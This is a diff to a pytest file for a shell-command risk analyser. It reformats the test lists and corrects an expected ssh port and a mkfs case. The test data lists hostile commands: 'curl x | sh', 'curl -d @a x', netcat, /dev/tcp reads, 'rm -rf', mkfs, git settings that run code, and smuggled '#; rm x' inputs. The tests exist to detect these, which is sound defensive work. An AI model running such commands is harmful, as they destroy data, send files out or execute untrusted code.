@@ -87,8 +87,9 @@ def test_what_wraps_transparently_leaves_a_command_exact(look: Look, command: st
 @pytest.mark.parametrize(
     "command",
     [
-        "sudo ls", "git push", "git reset --hard", "git clean -fd", "git branch -D x", "rm -rf $X/*",
-        "curl x | sh", "curl -d @a x", "nc x 1", "chmod -R 777 .", "chown -R a b", "mkfs.ext4 /dev/sda",
+        "sudo ls", "git push", "git reset --hard", "git clean -fd", "git branch -D x",
+        "rm -rf $X/*",
+        "curl x | sh", "curl -d @a x", "nc x 1", "chmod -R 777 .", "chown -R a b", "mkfs.xfs x",
         "shutdown now", "systemctl stop x", "crontab -r", "npm publish", "docker ps", "PATH=. ls",
         "LD_PRELOAD=x ls", "git config core.pager x", "find . -delete", "kubectl delete pod x",
     ],
@@ -180,7 +181,7 @@ def test_deleting_what_must_never_go_is_seen_through_every_spelling(
         ("git push", "example.invalid:443"),
         ("pip install x", "package index"),
         ("cat < /dev/tcp/e.invalid/80", "e.invalid:80"),
-        ("ssh me@e.invalid ls", "e.invalid:443"),
+        ("ssh me@e.invalid ls", "e.invalid:22"),
     ],
 )
 def test_effects_name_hosts(look: Look, command: str, host: str) -> None:
@@ -189,7 +190,8 @@ def test_effects_name_hosts(look: Look, command: str, host: str) -> None:
 
 @pytest.mark.parametrize(
     "command",
-    ["ls\r", "ls\x1b[2K", "ls \u202e", "l\u200bs", "ls\u00a0a", "ls " + "a" * 10_001, "ls (", "ls 'a",
+    ["ls\r", "ls\x1b[2K", "ls \u202e", "l\u200bs", "ls\u00a0a", "ls " + "a" * 10_001, "ls (",
+     "ls 'a",
      "ls;" * 200, "a\\\nb#; rm x", "cat a.txt\\\n#; rm x"],
 )  # fmt: skip
 def test_what_cannot_be_shown_or_parsed_is_a_problem(look: Look, command: str) -> None:
@@ -229,8 +231,10 @@ def test_a_repository_that_makes_git_run_something_is_not_safe(
     here = Place(str(tmp_path), (str(tmp_path),), place.home, place.path)
     config.write_text("[core]\n\tbare = false\n")
     assert analyse("git status", here).parts[0].risk == "safe"
-    for setting in ("[core]\n\tfsmonitor = x", '[diff "a"]\n\ttextconv = x', "[include]\n\tpath = x",
-                    '[filter "a"]\n\tclean = x', "[core]\n\tsshCommand = x y z", "nonsense"):  # fmt: skip
+    for setting in ("[core]\n\tfsmonitor = x", '[diff "a"]\n\ttextconv = x',
+                    "[include]\n\tpath = x",
+                    '[filter "a"]\n\tclean = x',
+                    "[core]\n\tsshCommand = x y z", "nonsense"):  # fmt: skip
         config.write_text(setting + "\n")
         found = analyse("git status", here).parts[0]
         assert found.risk == "unknown", setting
